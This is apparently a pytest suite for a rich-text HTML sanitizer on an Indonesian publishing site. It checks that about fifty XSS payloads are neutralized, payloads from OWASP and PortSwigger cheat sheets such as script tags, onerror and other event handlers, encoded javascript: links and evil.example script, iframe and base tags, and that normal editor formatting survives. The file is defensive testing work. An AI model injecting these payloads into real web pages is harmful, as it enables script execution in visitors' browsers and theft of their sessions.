"""Rich text from the editor keeps its formatting and loses every way to run code."""

import re
from html.parser import HTMLParser

import pytest

from publishing.sanitize import ALLOWED_TAGS, clean_html

# From the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JAVASCRIPT:alert(1)">klik</a>',
    '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<p>teks<!--<script>alert(1)</script>--></p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<p onmouseover=alert(1)>arahkan</p>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<img src="x" srcset="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<blockquote cite="javascript:alert(1)">kutipan</blockquote>',
    '<a href="https://example.org" target="_blank">x</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<figure class="image evil" onclick="alert(1)"><img src="/media/a.jpg"></figure>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<marquee onstart=alert(1)>x</marquee>",
]

SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:", "/", "#")


class MarkupAudit(HTMLParser):
    """Collects what a browser would treat as markup (text, even "onerror=", is harmless)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "target", "srcset", "formaction"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and value:
                # A URL scheme as browsers parse it, after dropping spaces and controls.
                target = re.sub(r"[\x00-\x20]", "", value).lower()
                if re.match(r"[a-z][a-z0-9+.-]*:", target) and not target.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def audit(html):
    parser = MarkupAudit()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_dangerous_markup_survives(payload):
    cleaned = clean_html(payload)
    assert audit(cleaned) == [], cleaned


def test_the_audit_itself_catches_dangerous_markup():
    assert "attribute onerror on <img>" in audit("<img src=x onerror=alert(1)>")
    assert "tag <script>" in audit("<script>alert(1)</script>")
    assert audit('<a href="javascript:alert(1)">x</a>') == ["href='javascript:alert(1)' on <a>"]


def test_there_are_at_least_fifty_payloads():
    assert len(XSS_PAYLOADS) >= 50


def test_editor_formatting_survives():
    html = (
        "<h2>Tahapan</h2><p><strong>Tebal</strong>, <em>miring</em> dan "
        '<a href="https://www.kpu.go.id/">tautan</a>.</p>'
        "<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote><p>kutipan</p></blockquote>"
        '<figure class="image"><img src="/media/uploads/a.jpg" alt="Foto" width="800" height="450">'
        "<figcaption>Keterangan</figcaption></figure>"
        "<table><tbody><tr><td>1</td></tr></tbody></table>"
    )
    cleaned = clean_html(html)
    for kept in (
        "<h2>Tahapan</h2>",
        "<strong>Tebal</strong>",
        "<em>miring</em>",
        '<a href="https://www.kpu.go.id/" rel="noopener noreferrer">tautan</a>',
        "<li>satu</li>",
        "<blockquote>",
        '<figure class="image">',
        '<img src="/media/uploads/a.jpg" alt="Foto" width="800" height="450">',
        "<figcaption>Keterangan</figcaption>",
        "<td>1</td>",
    ):
        assert kept in cleaned


def test_unknown_classes_are_dropped_and_known_ones_kept():
    assert clean_html('<figure class="image evil"><img src="/a.jpg"></figure>') == (
        '<figure class="image"><img src="/a.jpg"></figure>'
    )
